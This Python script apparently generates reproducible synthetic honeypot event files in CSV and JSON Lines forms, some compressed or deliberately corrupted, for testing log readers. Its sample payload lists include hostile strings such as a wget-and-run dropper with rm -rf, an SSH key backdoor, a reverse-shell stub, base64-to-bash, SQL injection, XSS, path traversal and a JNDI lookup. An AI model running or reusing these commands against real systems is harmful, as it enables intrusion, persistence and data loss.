"""Files of made-up honeypot events, always the same for the same parameters.

    generate.py CACHE FORM MEGABYTES      prints the path

Files are kept in CACHE/events-<hash of the parameters>, each beside a .json with its size and what the matrix of its
events has to be (work.checksum). All forms hold the same events, as many as fit.

A broken form has, on average after every thousandth event, a line that is no event: text of another program, an event
that was cut off, has fields too many or a colon too few, bytes that are not UTF-8. None of them opens a quote, which would
take the next event along, and none has the events' number of fields, so that every reader has the same events to find.
"""

import gzip
import hashlib
import json
import sys
from dataclasses import dataclass
from pathlib import Path

import numpy as np

import work

# To be changed with anything that changes the files.
VERSION = 2
SEED = 20250301
BLOCK_ROWS = 20_000
PAYLOADS_OF_A_KIND = 10_000
N_ADDRESSES = 30_000
BROKEN_SHARE = 0.001
MISSING_DURATIONS = 0.03

PROTOCOLS = {
    "ftp": 21, "http": 80, "https": 443, "mqtt": 1883, "mysql": 3306, "rdp": 3389,
    "redis": 6379, "sip": 5060, "smb": 445, "smtp": 25, "ssh": 22, "telnet": 23,
}  # fmt: skip
KINDS = ("login", "command", "request", "bytes")
# Frequency of each event, and the kind of its payload; None is missing.
EVENTS = {
    "login": (0.36, "login"), "command": (0.22, "command"), "http_request": (0.16, "request"), "connect": (0.12, None),
    "scan": (0.06, "request"), "download": (0.04, "command"), "exploit": (0.02, "bytes"), "disconnect": (0.02, None),
}  # fmt: skip
FLAGS = ["new", "repeated", "tor", "proxy", "cloud", "no_banner", "tls", "fragmented"]
CSV_HEADER = "timestamp,src_ip,src_port,dst_port,protocol,event,session,duration,payload\n"

USERS = ["root", "admin", "ubnt", "support", "oracle", "postgres", "git", "пользователь", "用户", "usuário"]
PASSWORDS = ["123456", "admin", "P@ssw0rd", 'qwe"rty', "1q2w3e4r", "senha,123", "пароль", "密码123", "naïve-été", "🔑"]
AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
    "curl/8.5.0",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "python-requests/2.31.0",
]
PATHS = [
    "/index.php?id=1' OR '1'='1' -- ", "/cgi-bin/luci/;stok=/locale", "/wp-login.php", "/.env", "/.git/config",
    '/search?q=<script>alert("xss")</script>', "/api/v1/users?limit=10,20,30", "/../../../../etc/passwd",
    "/?x=${{jndi:ldap://{ip}:1389/a}}", "/phpmyadmin/index.php?lang=en",
]  # fmt: skip
COMMANDS = [
    "cd /tmp || cd /var/run || cd /mnt; wget http://{ip}/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf *",
    'echo "ssh-rsa AAAAB3NzaC1yc2E{hex}, root@host" >> ~/.ssh/authorized_keys',
    "uname -a",
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{{print $4,$5,$6,$7,$8,$9;}}'",
    "/bin/busybox {hex}",
    'python3 -c "import socket,subprocess,os;s=socket.socket();s.connect((\\"{ip}\\",4444))"',
    "free -m | grep Mem | awk '{{print $2 ,$3, $4, $5, $6, $7}}'",
    "echo {hex}{hex}{hex}{hex} | base64 -d | bash",
    "enable\nsystem\nshell\nsh\n/bin/busybox {hex}",
    "w",
]


@dataclass(frozen=True)
class Form:
    """What a file looks like."""

    extension: str
    newlines: bool = False
    broken: bool = False
    compressed: bool = False


FORMS = {
    "csv": Form("csv"),
    "csv_newlines": Form("csv", newlines=True),
    "csv_broken": Form("csv", broken=True),
    "csv_gz": Form("csv", compressed=True),
    "jsonl": Form("jsonl"),
    "jsonl_broken": Form("jsonl", broken=True),
    "jsonl_gz": Form("jsonl", compressed=True),
}


def payloads(rng):
    """Texts of KINDS, PAYLOADS_OF_A_KIND of each after those of the one before, from one character to two thousand."""

    def pick(values):
        return values[rng.integers(len(values))]

    def fill(text):
        return text.format(ip="198.18.{}.{}".format(*rng.integers(0, 256, 2)), hex=rng.bytes(6).hex())

    makers = {
        "login": lambda: f"login attempt [{pick(USERS)}/{pick(PASSWORDS)}{rng.integers(10_000)}] failed",
        "command": lambda: fill(pick(COMMANDS)),
        "request": lambda: fill(f"GET {pick(PATHS)} HTTP/1.1\nHost: {{ip}}\nUser-Agent: {pick(AGENTS)}\nAccept: */*"),
        "bytes": lambda: rng.bytes(int(rng.integers(20, 1000))).hex(),
    }
    return [makers[kind]() for kind in KINDS for _ in range(PAYLOADS_OF_A_KIND)]


class Pool:
    """What events are put together from, spelled for a form."""

    def __init__(self, form):
        rng = np.random.default_rng([SEED, VERSION])
        texts = payloads(rng)
        self.lengths = np.array([len(text) for text in texts], np.float32)
        if form.extension == "jsonl":
            self.payloads = [json.dumps(text) for text in texts]
        else:
            if not form.newlines:
                texts = [text.replace("\n", " ") for text in texts]
            self.payloads = ['"' + text.replace('"', '""') + '"' for text in texts]
        octets = rng.integers(0, 256, (N_ADDRESSES, 3))
        self.addresses = [f"10.{a}.{b}.{c}" for a, b, c in octets.tolist()]
        self.flags = [json.dumps(rng.choice(FLAGS, n, replace=False).tolist()) for n in rng.integers(0, 4, 256)]


class Block:
    """Columns of BLOCK_ROWS events, the same in all forms."""

    def __init__(self, number, pool):
        self.rng = rng = np.random.default_rng([SEED, VERSION, number])
        n = BLOCK_ROWS
        start = np.datetime64("2025-03-01T00:00:00", "us") + np.timedelta64(number * n * 20, "ms")
        self.timestamps = start + np.sort(rng.integers(0, n * 20_000, n)).astype("timedelta64[us]")
        # Few addresses send most.
        self.addresses = (N_ADDRESSES * rng.random(n) ** 3).astype(int)
        self.src_ports = rng.integers(1024, 65_536, n)
        self.protocols = rng.integers(0, len(PROTOCOLS), n)
        usual = np.array(list(PROTOCOLS.values()))[self.protocols]
        self.dst_ports = np.where(rng.random(n) < 0.9, usual, rng.integers(1, 65_536, n))
        self.events = rng.choice(len(EVENTS), n, p=[frequency for frequency, _ in EVENTS.values()])
        self.sessions = rng.integers(0, 1 << 48, n)
        self.milliseconds = np.minimum(rng.lognormal(7, 2, n), 1e8).astype(int)
        self.has_duration = rng.random(n) >= MISSING_DURATIONS
        kinds = np.array([KINDS.index(kind) if kind else -1 for _, kind in EVENTS.values()])[self.events]
        self.has_payload = kinds >= 0
        self.payloads = kinds * PAYLOADS_OF_A_KIND + rng.integers(0, PAYLOADS_OF_A_KIND, n)
        self.flags = rng.integers(0, len(pool.flags), n)

    def matrix(self, pool):
        """What every reader has to make of these events."""
        names = list(EVENTS)
        columns = [
            np.where(self.has_payload, pool.lengths[self.payloads], np.nan),
            self.src_ports,
            self.dst_ports,
            np.where(self.has_duration, self.milliseconds / 1000, np.nan),
            self.events == names.index(work.LOGIN),
            self.protocols + 1,
        ]
        labels = np.isin(self.events, [names.index(event) for event in work.ATTACKS])
        return [column.astype(np.float32) for column in columns], labels

    def lines(self, form, pool):
        """The events as text, in order."""
        json_lines = form.extension == "jsonl"
        protocols, events = list(PROTOCOLS), list(EVENTS)
        missing = "null" if json_lines else ""
        rows = zip(
            np.datetime_as_string(self.timestamps, unit="us").tolist(),
            [pool.addresses[i] for i in self.addresses.tolist()],
            self.src_ports.tolist(),
            self.dst_ports.tolist(),
            [protocols[i] for i in self.protocols.tolist()],
            [events[i] for i in self.events.tolist()],
            self.sessions.tolist(),
            [f"{m / 1000:.3f}" if has else missing for m, has in zip(self.milliseconds.tolist(), self.has_duration)],
            [pool.payloads[i] if has else missing for i, has in zip(self.payloads.tolist(), self.has_payload)],
            self.flags.tolist(),
        )
        if not json_lines:
            return [
                f"{time}Z,{address},{src},{dst},{protocol},{event},{session:012x},{duration},{payload}\n"
                for time, address, src, dst, protocol, event, session, duration, payload, _ in rows
            ]
        return [
            f'{{"timestamp": "{time}Z", "src_ip": "{address}", "protocol": "{protocol}", "event": "{event}", '
            f'"duration": {duration}, "payload": {payload}, "net": {{"src_port": {src}, "dst_port": {dst}, '
            f'"session": "{session:012x}", "flags": {pool.flags[flags]}}}}}\n'
            for time, address, src, dst, protocol, event, session, duration, payload, flags in rows
        ]

    def broken(self, lines, form):
        """The lines with broken ones between them, and the number of those."""
        after = np.flatnonzero(self.rng.random(len(lines)) < BROKEN_SHARE).tolist()
        mixed, copied = [], 0
        for row, kind in zip(after, self.rng.integers(0, 4, len(after)).tolist()):
            mixed += lines[copied : row + 1]
            copied = row + 1
            mixed.append(broken_line(lines[row], kind, form))
        return mixed + lines[copied:], len(after)


def broken_line(line, kind, form):
    """A line that is no event; a surrogate stands for a byte that is not UTF-8."""
    if kind == 0:
        return "Traceback (most recent call last):\n"
    if kind == 1:
        # Before any field that is quoted.
        return line[:40].rstrip("\n") + "\n"
    if kind == 2:
        return "\udcff\udcfe\x01\udc80\udcc3(\udcff\n"
    # Of JSON, what follows a whole object would leave the object an event.
    return line.rstrip("\n") + ",1,2,3\n" if form.extension == "csv" else line.replace(":", " ", 1)


def folder(cache, megabytes):
    parameters = json.dumps([VERSION, SEED, megabytes, BROKEN_SHARE, BLOCK_ROWS])
    return Path(cache) / f"events-{hashlib.sha256(parameters.encode()).hexdigest()[:16]}"


def prepare(cache, name, megabytes):
    """The file of this form, made if it is not there, and what is known of it."""
    form = FORMS[name]
    path = folder(cache, megabytes) / f"{name.removesuffix('_gz')}.{form.extension}{'.gz' if form.compressed else ''}"
    about = path.with_name(path.name + ".json")
    if not about.exists():
        path.parent.mkdir(parents=True, exist_ok=True)
        staged = path.with_name(path.name + ".part")
        if form.compressed:
            known = compress(*prepare(cache, name.removesuffix("_gz"), megabytes), staged)
        else:
            known = write(form, megabytes, staged)
        staged.rename(path)
        about.write_text(json.dumps(known))
    return path, json.loads(about.read_text())


def write(form, megabytes, path):
    pool = Pool(form)
    total = work.Checksum()
    n_broken = n_bytes = number = 0
    with path.open("wb") as file:
        if form.extension == "csv":
            n_bytes += file.write(CSV_HEADER.encode())
        while n_bytes < megabytes * 1_000_000:
            block = Block(number, pool)
            lines = block.lines(form, pool)
            if form.broken:
                lines, n = block.broken(lines, form)
                n_broken += n
            n_bytes += file.write("".join(lines).encode("utf-8", "surrogateescape"))
            total.add(*block.matrix(pool))
            number += 1
    return {"bytes": n_bytes, "broken": n_broken, "checksum": total.values()}


def compress(plain, known, path):
    with plain.open("rb") as source, path.open("wb") as raw, gzip.GzipFile("", "wb", 6, raw, mtime=0) as target:
        while piece := source.read(1 << 20):
            target.write(piece)
    return known


if __name__ == "__main__":
    print(prepare(sys.argv[1], sys.argv[2], int(sys.argv[3]))[0])
